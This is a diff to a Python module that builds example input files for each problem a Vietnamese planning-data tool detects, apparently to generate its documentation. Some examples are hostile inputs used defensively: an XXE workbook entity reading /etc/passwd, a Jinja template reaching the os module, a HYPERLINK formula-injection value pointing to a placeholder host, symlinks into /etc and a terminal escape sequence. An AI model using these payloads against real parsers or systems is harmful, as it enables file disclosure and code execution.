@@ -12,6 +12,7 @@ tests/test_docs.py regenerates the file and fails when docs/checks.md differs.
 from __future__ import annotations
 
 import tempfile
+from collections.abc import Callable
 from pathlib import Path
 
 from xhht.problems.catalogue import CATALOGUE, SECTIONS
@@ -90,7 +91,8 @@ EXAMPLES: dict[str, dict[str, str | bytes | None]] = {
     "outside-repo": {"data/env.csv": Link("/etc/hostname")},
     "not-regular-file": {"plans/folder.yaml": None},
     "too-large": {"data/d.csv": _data("ti-le,90,2022,85,,," + "x" * 5000 + ",")},
-    "bad-character": {"plans/demo.yaml": _plan("title: Kế hoạch thử", "title: Kế hoạch\u2028thử")},
+    "bad-character": {"plans/demo.yaml": _plan("title: Kế hoạch thử", "title: Kế hoạch\u2028thử"),
+                      "data/d.csv": _data("ti-le,90,2023,85,,,x,chép từ web\x1b[2J")},
     "template-error": {"templates/report.md.j2": "# {{ view.heading }}\n{{ cycler.__init__.__globals__.os }}\n"},
     "config-syntax": {"xhht.toml": "lang = \n"},
     "unknown-setting": {"xhht.toml": "colour = true\n[report]\nbody = \"Sở Giáo dục và Đào tạo\"\nsigner_name = \"x\"\n"},
@@ -108,6 +110,9 @@ EXAMPLES: dict[str, dict[str, str | bytes | None]] = {
     "duplicate-indicator": {"plans/demo.yaml": _plan("id: so-luong", "id: ti-le")},
     "indicator-conflict": {"plans/other.yaml": _plan("{2022: 80, 2025: 90}", "{2022: 80}", _plan(
         "unit: percent", "unit: count", _plan("id: demo", "id: other")))},
+    "bad-holds-for": {"plans/demo.yaml": _plan("        levels: [Không xếp loại, Trung bình, Khá, Tốt]\n",
+                                               "        levels: [Không xếp loại, Trung bình, Khá, Tốt]\n"
+                                               "        holds_for: 0\n")},
     "bad-period": {"plans/demo.yaml": _plan("period: 2020-2025", "period: 2025-2020")},
     "target-outside-period": {"plans/demo.yaml": _plan("{2022: 80, 2025: 90}", "{2019: 80, 2025: 90}")},
     "target-out-of-range": {"plans/demo.yaml": _plan("{2022: 80, 2025: 90}", "{2022: 120, 2025: 90}")},
@@ -173,6 +178,7 @@ EXAMPLES: dict[str, dict[str, str | bytes | None]] = {
                                              "so-luong,902,2022,60,,,x,")},
     "area-outside-plan": {"plans/demo.yaml": _plan('area: "90"', 'area: "901"'),
                           "data/d.csv": _data("so-luong,902,2022,60,,,x,")},
+    "plan-cycle": {"plans/demo.yaml": _plan('area: "90"', 'area: "90"\nparent: demo')},
     "weaker-than-parent": {"plans/huyen.yaml": _plan("{2022: 80, 2025: 90}", "{2022: 75}", _plan(
         'area: "90"', 'area: "901"\nparent: demo', _plan("id: demo", "id: huyen")))},
     "report-front-matter": {"reports/so-ket.md": "## Công tác chỉ đạo, triển khai\nSở đã ban hành kế hoạch.\n"},
@@ -187,16 +193,50 @@ EXAMPLES: dict[str, dict[str, str | bytes | None]] = {
     "ambiguous-number": {},
     "figure-conflict": {},
     "import-target": {"data/2022/so-lieu.csv": "indicator,area,period,value\n"},
+    "import-path": {"data/2022": Link("/etc")},
+    "more-problems": {"data/d.csv": _data(*["ti-le,90,2023,71,4,,,x,"] * 1500)},
+    "formula-text": {"plans/demo.yaml": _plan("name: Số lượng", "name: '=HYPERLINK(\"http://x.invalid/?\"&D3)'")},
+    "bad-workbook": {},
+    "no-data-sheet": {},
     "no-keys-row": {},
     "unkeyed-cell": {},
     "unknown-encoding": {},
 }
 
-# code -> the content of `so-lieu.csv`, imported with `xhht import so-lieu.csv` into the example.
-IMPORTS: dict[str, bytes] = {
+def _xlsx(sheet: str = "Số liệu", doctype: bool = False) -> bytes:
+    """A SYNTHETIC workbook with one sheet; with `doctype`, its sheet part declares an entity."""
+    import io
+    import zipfile
+
+    from openpyxl import Workbook
+
+    wb = Workbook()
+    wb.active.title = sheet
+    wb.active.append(["indicator", "area", "period", "value"])
+    wb.active.append(["ti-le", "901", 2022, 80])
+    buf = io.BytesIO()
+    wb.save(buf)
+    if not doctype:
+        return buf.getvalue()
+    out = io.BytesIO()
+    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(out, "w") as dst:
+        for name in src.namelist():
+            body = src.read(name)
+            if name == "xl/worksheets/sheet1.xml":
+                body = body.replace(b"<worksheet", b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet', 1)
+            dst.writestr(name, body)
+    return out.getvalue()
+
+
+# code -> the content of `so-lieu.csv` (or of `so-lieu.xlsx`: a function that makes the workbook),
+# imported with `xhht import so-lieu.csv` into the example.
+IMPORTS: dict[str, bytes | Callable[[], bytes]] = {
+    "bad-workbook": lambda: _xlsx(doctype=True),
+    "no-data-sheet": lambda: _xlsx("Sheet1"),
     "ambiguous-number": "indicator;area;period;value\nti-le;901;2022;1.234\nso-luong;901;2022;1,234\n".encode(),
     "figure-conflict": b"indicator,area,period,value\nti-le,90,2022,86\n",
     "import-target": b"indicator,area,period,value\nti-le,901,2022,80\n",
+    "import-path": b"indicator,area,period,value\nti-le,901,2022,80\n",
     "no-keys-row": "Chỉ tiêu;Kết quả\nTỷ lệ;80\n".encode(),
     "unkeyed-cell": "indicator,area,period,value,,note\nti-le,901,2022,80,xem lại,\n".encode(),
     "unknown-encoding": b"indicator,area,period,value\nti-le,901,2022,80\x81\n",
@@ -229,10 +269,15 @@ def example_problems(code: str) -> list:
         if code in IMPORTS:
             from xhht.excel.importer import run_import
 
-            form = root / "so-lieu.csv"
-            form.write_bytes(IMPORTS[code])
+            content = IMPORTS[code]
+            form = root / ("so-lieu.csv" if isinstance(content, bytes) else "so-lieu.xlsx")
+            form.write_bytes(content if isinstance(content, bytes) else content())
             problems = run_import([form], load_repo(root), None, False, name=lambda p: p.name).problems
             return [p for p in problems if p.code == code]
+        if code == "more-problems":  # made when problems are printed
+            from xhht.present.problem_text import bounded
+
+            return [p for p in bounded(load_repo(root).problems) if p.code == code]
         if code == "template-error":  # found by `xhht report`, when the template runs
             from xhht.problems import DataError
             from xhht.present.render import environment
